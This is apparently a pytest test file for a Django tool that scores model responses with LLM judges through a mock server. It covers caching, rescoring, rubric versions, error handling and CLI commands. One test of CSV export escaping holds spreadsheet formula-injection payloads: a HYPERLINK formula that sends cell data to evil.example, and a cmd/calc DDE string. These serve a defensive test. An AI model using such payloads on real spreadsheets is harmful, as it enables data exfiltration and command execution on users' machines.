"""The scoring job end to end in this process: selection, cache, rescoring, rubric versions, failures."""

import csv
import io
import json
import uuid

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from annotation import jobs
from annotation.judging import rubric_map, score_params, start_scoring
from annotation.management.commands import score as score_command
from annotation.models import Dataset, Job, Judge, JudgeCacheEntry, Judgement, Pair, Prompt, Response, Rubric
from annotation.rubrics import DEFAULT_RUBRICS

from .helpers import Team
from .llm_server import LLMServer, Reply


@pytest.fixture
def server():
    with LLMServer() as srv:
        yield srv


@pytest.fixture
def rubrics(db):
    # Tables are emptied between transactional tests; make sure version 1 is there.
    for domain, text in DEFAULT_RUBRICS.items():
        Rubric.objects.get_or_create(domain=domain, version=1, defaults={"text": text})


def make_judge(server, name="loop-a", **fields):
    return Judge.objects.create(name=name, family="qwen", base_url=server.base_url, model=f"{name}-model",
                                max_concurrency=8, price_input_per_m=2, price_output_per_m=8, **fields)


def make_responses(dataset, texts, domain="chat", messages=None):
    prompt = Prompt.objects.create(
        dataset=dataset, domain=domain, messages=messages or [{"role": "user", "content": f"问题 {uuid.uuid4()}"}],
        query="问题", content_hash=uuid.uuid4())
    return [Response.objects.create(dataset=dataset, prompt=prompt, model="gen", text=t, content_hash=uuid.uuid4())
            for t in texts]


def run(dataset, judges, **options):
    job = start_scoring(dataset, judges=judges, **options)
    jobs.execute(job.pk)
    job.refresh_from_db()
    return job


def test_every_response_is_scored_by_every_judge_with_counts_tokens_and_cost(rubrics, server):
    dataset = Dataset.objects.create(name="s")
    make_responses(dataset, [f"回答 {i}" for i in range(5)])
    make_responses(dataset, ["代码回答"], domain="code")
    judges = [make_judge(server, "a"), make_judge(server, "b")]
    job = run(dataset, judges, chunk_size=4)
    assert job.status == Job.Status.SUCCEEDED, job.error
    assert job.total == job.done == 12 and server.requests == 12
    assert Judgement.objects.filter(status="ok", score=7).count() == 12
    assert job.counts["ok"] == 12 and job.counts["requests"] == 12
    assert job.counts["input_tokens"] == 12 * 120 and job.counts["output_tokens"] == 12 * 30
    # 12 × (120 × 2 + 30 × 8) / 1M dollars
    assert job.counts["cost"] == pytest.approx(12 * 480 / 1e6)
    code = Judgement.objects.get(response__prompt__domain="code", judge=judges[0])
    assert code.rubric == Rubric.objects.get(domain="code", version=1)
    assert code.input_tokens == 120 and float(code.cost) == pytest.approx(480 / 1e6)


def test_parse_errors_refusals_and_failed_requests_are_stored_with_the_raw_output_and_counted(rubrics, server, settings):
    settings.JUDGE_MAX_RETRIES = 1
    settings.JUDGE_BACKOFF_BASE_MS = 1
    server.when("NOSCORE", Reply(content="写得不错。"))
    server.when("REFUSE", Reply(content="抱歉，我无法评价这个回答。"))
    server.when("OUTRANGE", Reply(content="总体评分：[15]"))
    server.when("BROKEN", Reply(status=500, error="boom"))
    server.when("EMPTY", Reply(content=""))
    dataset = Dataset.objects.create(name="s")
    make_responses(dataset, ["NOSCORE", "REFUSE", "OUTRANGE", "BROKEN", "EMPTY", "好的"])
    job = run(dataset, [make_judge(server)])
    # One response was scored: the job ran to its end, with problems (amber), not green.
    assert job.status == Job.Status.PROBLEMS and job.error == ""
    assert jobs.failure_summary(job) == "5 of 6 requests gave no score"
    assert {k: job.counts[k] for k in ("ok", "parse_error", "refused", "error")} == {
        "ok": 1, "parse_error": 3, "refused": 1, "error": 1}
    by_text = {j.response.text: j for j in Judgement.objects.select_related("response")}
    assert by_text["NOSCORE"].status == "parse_error" and by_text["NOSCORE"].raw_output == "写得不错。"
    assert by_text["OUTRANGE"].score is None and by_text["OUTRANGE"].raw_output == "总体评分：[15]"
    assert by_text["REFUSE"].status == "refused"
    assert by_text["BROKEN"].status == "error" and "HTTP 500" in by_text["BROKEN"].analysis
    assert by_text["EMPTY"].status == "parse_error"
    assert job.errors.count() == 5
    assert any("score 15 is outside 1-10" in e.reason for e in job.errors.all())


def test_a_job_in_which_every_request_failed_fails_and_the_command_exits_with_status_1(rubrics, server, settings,
                                                                                      tmp_path):
    settings.JUDGE_MAX_RETRIES = 0
    server.default = Reply(status=500, error="upstream overloaded")
    server.when("UNPARSEABLE", Reply(content="写得不错，但我不打分。"))
    dataset = Dataset.objects.create(name="s")
    make_responses(dataset, ["一", "二", "UNPARSEABLE"])
    make_judge(server)
    report = tmp_path / "report.json"
    with pytest.raises(CommandError, match=r"^scoring failed: 3 of 3 requests gave no score \(job \d+\)$") as failed:
        call_command("score", dataset="s", judge=["loop-a"], report_json=str(report), no_progress=True)
    assert failed.value.returncode == 1
    job = Job.objects.get(kind="score")
    assert job.status == Job.Status.FAILED and job.done == 3
    assert (job.counts["ok"], job.counts["error"], job.counts["parse_error"]) == (0, 2, 1)
    assert job.errors.count() == 3  # each one listed on the job page with its reason
    written = json.loads(report.read_text(encoding="utf-8"))
    assert written["status"] == "failed" and written["problems"] == "3 of 3 requests gave no score"


def test_a_judge_that_scores_each_point_but_declines_an_overall_score_is_stored_without_a_score(rubrics, server):
    declined = "第1点[3]正确，第2点[9]错误。无法给出总体评分。"
    server.when("DECLINED", Reply(content=declined))
    server.when("LATER", Reply(content="第一次无法给出总体评分；补充条件后：准确性[8]。\n总体评分：[7]"))
    dataset = Dataset.objects.create(name="s")
    make_responses(dataset, ["DECLINED", "LATER"])
    job = run(dataset, [make_judge(server)])
    by_text = {j.response.text: j for j in Judgement.objects.select_related("response")}
    assert (by_text["DECLINED"].status, by_text["DECLINED"].score) == ("parse_error", None)
    assert by_text["DECLINED"].raw_output == declined
    assert (by_text["LATER"].status, by_text["LATER"].score) == ("ok", 7)
    assert job.counts["parse_error"] == 1 and job.counts["ok"] == 1
    assert [e.reason.split(": ", 1)[1] for e in job.errors.all()] == [
        "parse_error: the judge gives no overall score ('无法给出总体评分')"]


def test_the_errors_csv_quotes_judge_output_that_a_spreadsheet_would_run_as_a_formula(rubrics, server, client):
    answers = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
               "\t=1+1", "回答中 -1 和 =2 不在开头"]
    for i, answer in enumerate(answers):
        server.when(f"«{i}»", Reply(content=answer))
    team = Team.create("s")
    make_responses(team.dataset, [f"«{i}»" for i in range(len(answers))])
    job = run(team.dataset, [make_judge(server)])
    client.force_login(team.viewer)
    body = b"".join(client.get(reverse("job-errors-csv", args=[job.pk])).streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert sorted(row["excerpt"] for row in rows) == sorted(["'" + a for a in answers[:-1]] + answers[-1:])
    assert all("parse_error: no score found" in row["reason"] for row in rows)


def test_a_rerun_scores_only_what_is_missing_and_retries_errors(rubrics, server, settings):
    settings.JUDGE_MAX_RETRIES = 0
    server.when("FLAKY", Reply(status=503, error="overloaded"), Reply(content="[4]"))
    dataset = Dataset.objects.create(name="s")
    make_responses(dataset, ["一", "二", "FLAKY"])
    judge = make_judge(server)
    first = run(dataset, [judge])
    assert first.counts["error"] == 1 and server.requests == 3
    make_responses(dataset, ["三"])
    second = run(dataset, [judge])
    assert second.total == 2 and server.requests == 5
    assert Judgement.objects.get(response__text="FLAKY").score == 4
    assert Judgement.objects.count() == 4


def test_rescoring_updates_in_place_and_is_answered_from_the_cache(rubrics, server):
    dataset = Dataset.objects.create(name="s")
    make_responses(dataset, ["一", "二", "三"])
    judge = make_judge(server)
    run(dataset, [judge])
    ids = set(Judgement.objects.values_list("pk", flat=True))
    again = run(dataset, [judge], rescore=True)
    assert again.done == 3 and again.counts["cached"] == 3 and again.counts["requests"] == 0
    assert again.counts["cost"] == 0 and server.requests == 3
    assert set(Judgement.objects.values_list("pk", flat=True)) == ids
    assert JudgeCacheEntry.objects.count() == 3


def test_force_bypasses_the_cache_and_stores_the_new_answer(rubrics, server):
    dataset = Dataset.objects.create(name="s")
    make_responses(dataset, ["一"])
    judge = make_judge(server)
    run(dataset, [judge])
    server.default = Reply(content="[3]")
    forced = run(dataset, [judge], rescore=True, force=True)
    assert forced.counts["requests"] == 1 and server.requests == 2
    assert Judgement.objects.get().score == 3
    assert JudgeCacheEntry.objects.get().raw_output == "[3]"


def test_a_new_rubric_version_is_scored_separately_and_recorded_on_each_judgement(rubrics, server):
    dataset = Dataset.objects.create(name="s")
    make_responses(dataset, ["一", "二"])
    judge = make_judge(server)
    run(dataset, [judge])
    v2 = Rubric.objects.create(domain="chat", version=2, text="新版评分标准 RUBRIC-V2：先分析，再给出 [分数]。")
    server.when("RUBRIC-V2", Reply(content="总体评分：[9]"))
    job = run(dataset, [judge])
    assert job.params["rubrics"]["chat"] == v2.pk
    assert job.counts["requests"] == 2 and job.counts["cached"] == 0
    assert sorted(Judgement.objects.values_list("rubric__version", "score")) == [(1, 7), (1, 7), (2, 9), (2, 9)]
    old = run(dataset, [judge], rubric_version=1, rescore=True)
    assert old.counts["cached"] == 2


def test_system_prompts_and_history_are_shown_to_the_judge(rubrics, server):
    dataset = Dataset.objects.create(name="s")
    messages = [{"role": "system", "content": "你是一只猫娘"}, {"role": "user", "content": "你好"},
                {"role": "assistant", "content": "喵～你好"}, {"role": "user", "content": "今天吃什么？"}]
    make_responses(dataset, ["吃小鱼干喵"], domain="role", messages=messages)
    run(dataset, [make_judge(server)])
    sent = json.loads(server.bodies[0])["messages"]
    assert sent[0]["content"] == Rubric.objects.get(domain="role", version=1).text
    for part in ("【系统提示】\n你是一只猫娘", "用户：你好", "助手：喵～你好", "【用户问题】\n今天吃什么？", "吃小鱼干喵"):
        assert part in sent[1]["content"]


def test_a_permanent_error_fails_the_job_with_the_providers_message(rubrics, server):
    server.default = Reply(status=401, error="Incorrect API key provided: sk-****")
    dataset = Dataset.objects.create(name="s")
    make_responses(dataset, ["一", "二"])
    job = run(dataset, [make_judge(server)])
    assert job.status == Job.Status.FAILED
    assert "HTTP 401" in job.error and "Incorrect API key provided" in job.error
    assert not Judgement.objects.exists()


def test_the_selection_follows_domains_pair_statuses_and_explicit_objects(rubrics, server):
    dataset = Dataset.objects.create(name="s")
    chat = make_responses(dataset, ["c1", "c2", "c3"])
    make_responses(dataset, ["m1"], domain="math")
    Pair.objects.create(dataset=dataset, prompt=chat[0].prompt, domain="chat", chosen=chat[0], rejected=chat[1],
                        status="kept")
    judge = make_judge(server)
    assert run(dataset, [judge], domains=["math"]).total == 1
    assert run(dataset, [judge], pair_statuses=["kept"]).total == 2
    assert run(dataset, [judge], response_ids=[chat[2].pk]).total == 1
    assert Judgement.objects.count() == 4


def test_judges_without_an_api_or_missing_rubric_versions_are_refused_up_front(rubrics, server):
    dataset = Dataset.objects.create(name="s")
    imported = Judge.objects.create(name="from-file")
    with pytest.raises(ValueError, match="from-file has no base URL"):
        score_params(dataset, [imported])
    with pytest.raises(ValueError, match="version 9"):
        score_params(dataset, [make_judge(server)], rubric_version=9)
    assert rubric_map()["chat"] == Rubric.objects.get(domain="chat", version=1).pk


def test_the_commands_add_list_judges_and_score_with_a_json_report(rubrics, server, tmp_path, capsys):
    dataset = Dataset.objects.create(name="cli")
    make_responses(dataset, ["一", "二", "NOSCORE"])
    server.when("NOSCORE", Reply(content="不错"))
    call_command("judges", "add", "qwen-loop", "--base-url", server.base_url, "--model", "qwen2-72b",
                 "--api-key-env", "COIGP_JUDGE_KEY_QWEN", "--family", "qwen", "--concurrency", "4", "--rpm", "600")
    judge = Judge.objects.get(name="qwen-loop")
    assert (judge.family, judge.max_concurrency, judge.rpm_limit) == ("qwen", 4, 600)
    assert judge.api_key_env == "COIGP_JUDGE_KEY_QWEN"
    call_command("judges", "list")
    assert "qwen-loop" in capsys.readouterr().out
    with pytest.raises(CommandError, match="COIGP_JUDGE_KEY_QWEN"):
        call_command("score", "--dataset", "cli", "--judge", "qwen-loop", "--no-progress")
    call_command("judges", "add", "qwen-loop", "--base-url", server.base_url, "--model", "qwen2-72b")
    report = tmp_path / "report.json"
    command = score_command.Command()
    capsys.readouterr()
    call_command(command, "--dataset", "cli", "--judge", "qwen-loop", "--domain", "chat", "--no-progress",
                 "--report-json", str(report))
    # One answer had no score: the command reports it and exits with status 2 (from the shell).
    assert command.exit_status == 2
    assert "scoring finished with problems: 1 of 3 requests gave no score" in capsys.readouterr().err
    data = json.loads(report.read_text())
    assert data["status"] == "problems" and data["problems"] == "1 of 3 requests gave no score"
    assert data["by_status"] == {"ok": 2, "parse_error": 1, "refused": 0, "error": 0}
    assert data["paid_requests"] == 3 and data["input_tokens"] == 360
    with pytest.raises(CommandError, match="no judge is called 'nobody'"):
        call_command("score", "--dataset", "cli", "--judge", "nobody")


def test_a_judge_added_with_the_anthropic_provider_scores_through_the_messages_api(rubrics, monkeypatch):
    monkeypatch.setenv("COIGP_JUDGE_KEY_CLAUDE", "sk-ant-loop")
    dataset = Dataset.objects.create(name="claude-scored")
    make_responses(dataset, ["一", "二", "三"])
    with LLMServer(api="anthropic", api_key="sk-ant-loop") as server:
        server.default = Reply(content="分析：准确。\n总体评分：[8]", usage=(200, 20))
        call_command("judges", "add", "claude", "--provider", "anthropic", "--base-url", server.base_url,
                     "--model", "claude-sonnet-4-5", "--api-key-env", "COIGP_JUDGE_KEY_CLAUDE")
        judge = Judge.objects.get(name="claude")
        job = run(dataset, [judge])
        bodies = [json.loads(b) for b in server.bodies]
    assert judge.provider == "anthropic"
    assert job.status == Job.Status.SUCCEEDED, job.error
    assert Judgement.objects.filter(judge=judge, status="ok", score=8).count() == 3
    assert job.counts["input_tokens"] == 600 and job.counts["output_tokens"] == 60
    assert {b["system"] for b in bodies} == {DEFAULT_RUBRICS["chat"]} and all("messages" in b for b in bodies)
    with pytest.raises(CommandError, match="invalid choice: 'gemini'"):
        call_command("judges", "add", "x", "--provider", "gemini", "--base-url", server.base_url, "--model", "m")


def test_judges_add_refuses_a_key_in_place_of_a_variable_name(db):
    with pytest.raises(CommandError, match="NAME of the variable holding the API key") as raised:
        call_command("judges", "add", "x", "--base-url", "http://127.0.0.1:1/v1", "--model", "m",
                     "--api-key-env", "sk-abc123-secret")
    assert "secret" not in str(raised.value)
    assert not Judge.objects.exists()


def test_every_score_format_from_the_server_is_stored_as_its_score(rubrics, server):
    formats = {"F1": ("分析。[8]", 8), "F2": ("[[6]]", 6), "F3": ("【9】", 9), "F4": ("总体评分：5", 5),
               "F5": ("评分: 8.5", 8.5), "F6": ("给 7/10", 7), "F7": ("总体评分：［４］", 4),
               "F8": ("正确性[9]\n总体评分\n[3]\n附注[10]", 3)}
    for marker, (content, _score) in formats.items():
        server.when(f"«{marker}»", Reply(content=content))
    dataset = Dataset.objects.create(name="s")
    make_responses(dataset, [f"«{marker}»" for marker in formats])
    job = run(dataset, [make_judge(server)])
    assert job.counts["ok"] == len(formats)
    stored = {j.response.text.strip("«»"): j.score for j in Judgement.objects.select_related("response")}
    assert stored == {marker: score for marker, (_content, score) in formats.items()}


def test_answers_paid_for_before_a_permanent_error_are_kept_in_the_cache(rubrics, server):
    server.when("BAD", Reply(status=400, error="This model's maximum context length is 8192 tokens.", latency=0.3))
    dataset = Dataset.objects.create(name="s")
    make_responses(dataset, ["一", "二", "三", "BAD"])
    judge = make_judge(server)
    job = run(dataset, [judge])
    assert job.status == Job.Status.FAILED and "maximum context length" in job.error
    assert not Judgement.objects.exists()
    assert JudgeCacheEntry.objects.count() == 3
    server.rules.clear()
    again = run(dataset, [judge])
    assert again.counts["cached"] == 3 and again.counts["requests"] == 1 and server.requests == 5
